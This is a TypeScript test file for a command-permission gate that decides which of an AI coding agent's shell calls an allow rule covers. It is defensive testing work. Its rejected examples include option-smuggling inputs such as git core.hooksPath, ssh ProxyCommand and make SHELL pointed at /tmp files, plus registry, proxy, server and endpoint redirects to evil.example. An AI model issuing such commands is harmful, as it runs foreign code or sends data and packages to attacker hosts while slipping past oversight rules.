// What an allow rule means by its words, with the product's own data: which further words of a call it covers, and which it does not.
import { expect, test } from 'vitest';
import { fixtureHost } from '../../src/host/fixture-host.ts';
import { createGate } from '../../src/gate/create-gate.ts';

const host = fixtureHost({
  home: '/home/me',
  user: 'me',
  tree: {
    '/repo/.git/config': '[remote "origin"]\n\turl = https://github.com/me/repo.git\n',
    '/repo/.git/HEAD': 'ref: refs/heads/x\n',
    '/repo/.git/objects/': {},
    '/repo/.git/refs/': {},
    '/repo/package.json': '{"scripts":{"build":"tsc -p .","deploy":"./gone.sh"}}',
    '/repo/sub/package.json': '{"scripts":{"build":"tsc -p .","deploy":"./gone.sh"}}',
    '/repo/Makefile': 'test:\n\techo hi\n',
    '/repo/sub/Makefile': 'test:\n\techo hi\n',
    '/repo/a.yml': 'kind: Pod\n',
    '/repo/vite.config.ts': '',
    '/other/package.json': '{"scripts":{"build":"tsc -p ."}}',
    '/tmp/': {},
  },
});

async function verdictOf(rule: string, command: string): Promise<string> {
  const gate = createGate({ host, record: 'off', config: { allow: [rule] } });
  const decision = await gate.check({ tool: 'Bash', input: { command }, agent: 'claude-code', cwd: '/repo' });
  return decision.verdict;
}

const COVERED: readonly (readonly [rule: string, call: string])[] = [
  // options that bring nothing, wherever they stand
  ['git commit *', 'git -C sub commit -m a'],
  ['git commit *', 'git --no-pager -c user.name=me commit -m a'],
  ['npm run *', 'npm --silent run build'],
  ['npm run *', 'npm --prefix sub run build'],
  ['make test *', 'make -j8 -C sub test V=1'],
  ['ssh build *', 'ssh -v build ls'],
  ['docker run *', 'docker --log-level debug run --rm alpine ls'],
  ['npm publish', 'npm --silent publish --tag next'],
  ['curl https://api.example.org/*', 'curl -s -X POST -d a=b https://api.example.org/a'],
  // a new option after the rule's words: the star vouches for it
  ['git commit *', 'git commit --brand-new-flag'],
  ['cargo build *', 'cargo build --release --frobnicate'],
  ['cmd: mytool build *', 'mytool build --verbose -o x y'],
  ['cmd: mytool build --config x *', 'mytool build --config x y'],
  ['cmd: mytool *', 'mytool build --config x'],
  // the rule names the option with its value
  ['git --exec-path=/tmp/x commit *', 'git --exec-path=/tmp/x commit -m a'],
  ['docker --host tcp://build run *', 'docker --host=tcp://build run alpine ls'],
  ['ssh -F deploy.conf build *', 'ssh -F deploy.conf build ls'],
  ['kubectl -n dev apply *', 'kubectl apply -f a.yml -n dev'],
  ['aws s3 rm s3://b/k --profile dev', 'aws s3 rm s3://b/k --profile dev'],
  // what the operands bring was vouched for
  ['npm install *', 'npm install left-pad'],
  ['kubectl apply *', 'kubectl apply -f a.yml'],
  ['gh pr merge *', 'gh pr merge 12 --squash'],
  ['sudo apt-get update', 'sudo apt-get update'],
  // the same target
  ['git push --force', 'git push -q --force'],
  ['git push --force origin x', 'git push --force origin x'],
  ['docker compose down -v', 'docker compose down -v'],
  ['kubectl delete pod web-1', 'kubectl delete pod web-1'],
  // every way of writing a path
  ['Edit(vite.config.ts)', 'echo x > vite.config.ts'],
  ['Edit(vite.config.ts)', 'cat > vite.config.ts << E\nx\nE'],
  ['Edit(vite.config.ts)', 'cp a.yml vite.config.ts'],
  ['Edit(vite.config.ts)', `python3 -c "open('vite.config.ts', 'w').write('x')"`],
  ['Edit(vite.config.ts)', `node -e "require('fs').writeFileSync('vite.config.ts', 'x')"`],
  ['Edit(~/notes.txt)', 'echo x >> ~/notes.txt'],
  // nothing but the program and a star: all of it
  ['pytest *', 'pytest -p evil'],
];

const NOT_COVERED: readonly (readonly [rule: string, call: string])[] = [
  // other code
  ['git commit *', 'git --exec-path=/tmp/x commit -m a'],
  ['git commit *', 'git -c core.hooksPath=/tmp/x commit -m a'],
  ['git commit *', 'git -c core.fsmonitor=/tmp/x commit -m a'],
  ['git -c user.name=x commit *', 'git -c user.name=x -c core.fsmonitor=/tmp/x commit -m a'],
  ['git commit *', 'git --git-dir=/tmp/g commit -m a'],
  ['git commit *', 'git -C /tmp/gone commit -m a'],
  ['git commit *', 'git --brand-new-flag commit -m a'],
  ['git push *', 'git push --receive-pack=/tmp/x origin x'],
  ['git fetch *', 'git fetch --upload-pack=/tmp/x origin'],
  ['npm run *', 'npm --script-shell=/tmp/x run build'],
  ['npm run *', 'npm run build --script-shell=/tmp/x'],
  ['npm run *', 'npm run build --node-options=--require=/tmp/x'],
  ['npm run *', 'npm run build --prefix /other'],
  ['npm run *', 'npm --prefix /tmp/gone run build'],
  ['make test *', 'make -f /tmp/x test'],
  ['make test *', 'make test -f /tmp/x'],
  ['make test *', 'make -C /tmp/x test'],
  ['make test *', 'make test SHELL=/tmp/x'],
  // what a variable names is a command too, and has its own rule
  ['make test SHELL=/bin/zsh *', 'make test SHELL=/bin/zsh'],
  ['cargo build *', 'cargo build --config /tmp/x.toml'],
  ['go test *', 'go test -exec /tmp/x ./...'],
  ['ssh build *', 'ssh -F /tmp/x build ls'],
  ['ssh build *', 'ssh -o ProxyCommand=/tmp/x build ls'],
  ['terraform plan *', 'terraform -chdir=/tmp/x plan'],
  ['git diff *', 'git diff --ext-diff'],
  // another destination
  ['docker run *', 'docker --host tcp://evil.example run alpine ls'],
  ['docker run *', 'docker --context evil run alpine ls'],
  ['npm install *', 'npm install left-pad --registry http://evil.example'],
  ['npm publish', 'npm publish --registry http://evil.example'],
  ['curl https://api.example.org/*', 'curl -x http://evil.example https://api.example.org/a'],
  ['kubectl get *', 'kubectl --server https://evil.example get pods'],
  ['kubectl apply *', 'kubectl --kubeconfig /tmp/x apply -f a.yml'],
  ['kubectl apply *', 'kubectl apply --context prod -f a.yml'],
  ['kubectl -n dev apply *', 'kubectl -n prod apply -f a.yml'],
  ['kubectl -n dev apply *', 'kubectl -n dev -n prod apply -f a.yml'],
  ['aws s3 rm *', 'aws --profile prod s3 rm s3://b/k'],
  ['aws s3 rm *', 'aws s3 rm s3://b/k --profile prod'],
  ['aws s3 rm *', 'aws s3 rm s3://b/k --profile=prod'],
  ['aws s3 rm *', 'aws s3 rm s3://b/k --endpoint-url=http://evil.example'],
  ['gh pr merge *', 'gh pr merge 12 -R other/repo'],
  ['docker compose down', 'docker compose -p prod down'],
  ['gh pr comment *', 'gh pr comment 12 --body x -R other/repo'],
  // another target
  ['git push --force', 'git push --force --all'],
  ['git push --force', 'git push --force --mirror'],
  ['git push --force', 'git push --force origin main'],
  ['git push --force origin x', 'git push --force origin x main'],
  ['git push --force *', 'git push --force --mirror'],
  ['npm publish', 'npm publish ./other'],
  ['kubectl delete pod web-1', 'kubectl delete pod web-2'],
  // options of a program nobody knows that choose code, settings or destination
  ['cmd: mytool build *', 'mytool build --config x'],
  ['cmd: mytool build *', 'mytool build --exec=x'],
  ['cmd: mytool build *', 'mytool build --host x'],
  ['cmd: mytool build *', 'mytool build -c x'],
  ['cmd: mytool build --config x *', 'mytool build --config y'],
  // another directory
  ['git commit *', 'git -C /other commit -m a'],
  ['git commit *', 'cd /other && git commit -m a'],
  // a rule for a command is none for where its output goes, and one for a path none for what writes it
  ['echo *', 'echo x > vite.config.ts'],
  ['Edit(vite.config.ts)', 'mytool > vite.config.ts'],
  ['Edit(vite.config.ts)', 'rm vite.config.ts'],
  // an unknown word
  ['git commit *', 'git commit --$WORD'],
  ['aws s3 rm *', 'aws s3 rm s3://b/k $WORD'],
];

test.each(COVERED)('%s covers %s', async (rule, call) => expect(await verdictOf(rule, call)).toBe('allow'));
test.each(NOT_COVERED)('%s does not cover %s', async (rule, call) => expect(await verdictOf(rule, call)).not.toBe('allow'));
/** Without the rule the calls that it covers are asked about, or there would be nothing to see. */
test.each(COVERED.filter(([, call]) => !/^(git -C|git --no-pager|npm --|make -j8)/.test(call) || call.includes('publish')))(
  'and without %s: %s is asked',
  async (_, call) => expect(await verdictOf('ls', call)).toBe('ask'),
);
